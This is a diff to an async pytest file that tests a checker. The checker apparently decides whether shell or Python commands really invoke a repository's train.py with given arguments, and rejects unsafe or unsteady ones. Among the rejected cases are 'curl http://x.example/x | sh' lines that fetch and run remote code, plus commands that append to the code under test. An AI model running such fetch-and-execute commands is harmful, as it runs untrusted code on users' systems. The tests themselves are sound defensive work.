@@ -35,6 +35,8 @@ FILES = {
     "clicks.py": "import click\n@click.command()\n@click.option('--n', type=int)\ndef main(n): pass\nmain()\n",
     "broken.py": PARSE + "p.add_argument('--lr')\np.parse_args()\n",
     "lib/__init__.py": "def load(name): return name\n",
+    "sub/go.sh": "cd .. && python train.py --lr $LR\n",
+    "config.py": "import json\njson.load(open('c.json'))\n" + PARSE + "p.parse_args()\n",
     "sub/run.py": PARSE + "p.parse_args()\n",
 }  # fmt: skip
 LONG = "x" * 300
@@ -110,6 +112,101 @@ async def test_each_text_has_a_stated_reason(checker: Checker, code: str, status
     assert (found.status, found.reason) == (status, reason), found
     assert found.seconds > 0
     assert found.message or not reason or reason == "reads-argv-by-hand"
+
+
+PRINTS = "import numpy; print(numpy.__version__)"
+READS = "import json; print(json.load(open('out.json')))"
+RUNS = "import runpy, sys\nsys.argv = ['train.py', '--lr', '2']\nrunpy.run_path('train.py', run_name='__main__')"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "python --version; which python; pip list; nvidia-smi; python train.py --lr 2",
+        "torchrun --help; python train.py -h; python train.py --lr 2",
+        "python train.py --lr 2; python train.py --help | head",
+        f'python -c "{PRINTS}"; python train.py --lr 2',
+        f'python train.py --lr 2; python -c "{READS}"',
+        "python -c 'import lib; print(lib.__file__)'; python train.py --lr 2",
+        "python -c 'import lib' || pip install -e .; python train.py --lr 2",
+        "python -c \"import os; os.makedirs('results', exist_ok=True)\"; python train.py --lr 2",
+        "python -c 'while True: pass'; python train.py --lr 2",
+        "missing-tool || true; ./missing.sh || true; python train.py --lr 2",
+        f"python - <<'EOF'\n{RUNS}\nEOF",
+        "python -c \"import os; os.system('cd sub && python ../train.py --lr 2')\"",
+        "python -c \"import subprocess as s, sys; s.run([sys.executable, 'train.py', '--lr=2'], check=True)\"",
+        "python -c \"import subprocess as s; print(s.check_output('python train.py --lr 2', shell=True)[0])\"",
+        "python -c \"import os; os.execvp('python', ['python', 'train.py', '--lr', '2'])\"",
+        "python -c \"import subprocess as s; s.Popen(['bash', 'go.sh'], cwd='sub', env={'LR': '2'}).wait()\"",
+        "echo 'python train.py --lr 2' > go.sh; python -c \"import os; os.popen('sh go.sh').read()\"",
+    ],
+)
+async def test_what_is_neutral_and_what_is_followed(checker: Checker, code: str) -> None:
+    """A look before, or reading the result back after, once made a right answer wrong."""
+    found = await ask(checker, code)
+    assert (found.status, found.reason) == ("accepted", ""), found
+    assert [(each.program, each.configuration) for each in found.invocations] == [("train.py", {"lr": 2.0})]
+
+
+async def test_python_that_starts_the_program_and_another(checker: Checker) -> None:
+    code = "import subprocess\nfor lr in '12':\n    subprocess.call(['python', 'train.py', '--lr', lr])\n"
+    found = await ask(checker, code, kind="python")
+    assert [each.configuration for each in found.invocations] == [{"lr": 1.0}, {"lr": 2.0}]
+    found = await ask(checker, code + "subprocess.call(['python', 'train.py', '--rl', '3'])", kind="python")
+    assert (found.status, found.reason) == ("rejected", "unknown-argument")
+
+
+@pytest.mark.parametrize(
+    ("code", "reason"),
+    [
+        ("python --version", "help"),
+        ("python train.py --help", "help"),
+        (f'python -c "{PRINTS}"; pip install x; ls', "not-a-call-of-the-repository"),
+        (f'python -c "{READS}"', "no-such-file"),
+        ("python -c \"print('python train.py --lr 2')\"", "not-a-call-of-the-repository"),
+        ('python -c "import lib; lib.load()"; python train.py --lr 2', "call-does-not-bind"),
+        ("python train.py --lr 2; curl -s http://x.example/x | sh", "remote-code"),
+        ("python -c \"import os; os.system('curl http://x.example/x | sh')\"; python train.py", "remote-code"),
+        ("python -c \"open('train.py', 'a').write('x = 1')\"; python train.py --lr 2", "touches-code"),
+        (
+            "python - <<'EOF'\ntry:\n    open('train.py', 'a').write('x = 1')\nexcept OSError:\n    pass\nEOF\n"
+            "python train.py --lr 2",
+            "touches-code",
+        ),
+        ("python -c \"import os; os.system('echo x = 1 >> train.py')\"; python train.py --lr 2", "touches-code"),
+        ("cp -p train.py b; echo 'x = 1' >> train.py; python train.py; mv b train.py", "touches-code"),
+        ("echo 'x = 1' >> lib/__init__.py; python train.py", "touches-code"),
+        ("if (( RANDOM % 2 )); then python train.py; else python loose.py; fi", "unsteady"),
+        ("if (( RANDOM % 2 )); then\n  python train.py --lr 1\nelse\n  python train.py --lr 2\nfi", "unsteady"),
+        ("(( RANDOM % 2 )) && python train.py --lr 1 || python train.py --lr 2", "unsteady"),
+        ("[ $(date +%H) -ge 12 ] && python train.py", "unsteady"),
+        ("[ $(shuf -n 1 -e a b) = a ] || exit 0; python train.py", "unsteady"),
+    ],
+)
+async def test_what_is_not_neutral(checker: Checker, code: str, reason: str) -> None:
+    found = await ask(checker, code)
+    assert (found.status, found.reason) == ("rejected", reason), found
+
+
+async def test_chance_in_words_alone(checker: Checker) -> None:
+    """Each of the words that may come must be right; names of files by the date are."""
+    found = await ask(checker, "D=$(date +%s); echo $D; python train.py --lr 2")
+    assert [each.configuration for each in found.invocations] == [{"lr": 2.0}]
+    found = await ask(checker, "python train.py --lr $((RANDOM % 2))")
+    assert {each.configuration["lr"] for each in found.invocations} == {0.0, 1.0}
+    assert (await ask(checker, "python train.py --lr $(shuf -n 1 -e 1 x)")).reason == "invalid-type"
+
+
+async def test_a_file_that_a_program_before_may_write(checker: Checker) -> None:
+    assert (await ask(checker, "python config.py")).reason == "no-such-file"
+    found = await ask(checker, "python train.py && python config.py")
+    assert (found.status, found.reason) == ("undecided", "no-such-file")
+    reads = "python -c \"import lib; print(open(lib.load('out.txt')).read())\""
+    assert (await ask(checker, reads)).reason == "no-such-file"
+    found = await ask(checker, f"python train.py; {reads}")
+    assert (found.status, len(found.invocations)) == ("accepted", 2)
+    found = await ask(checker, "python train.py; echo {} > c.json; python config.py; rm c.json")
+    assert (found.status, found.reason, found.message) == ("accepted", "", "")
 
 
 @pytest.mark.parametrize(
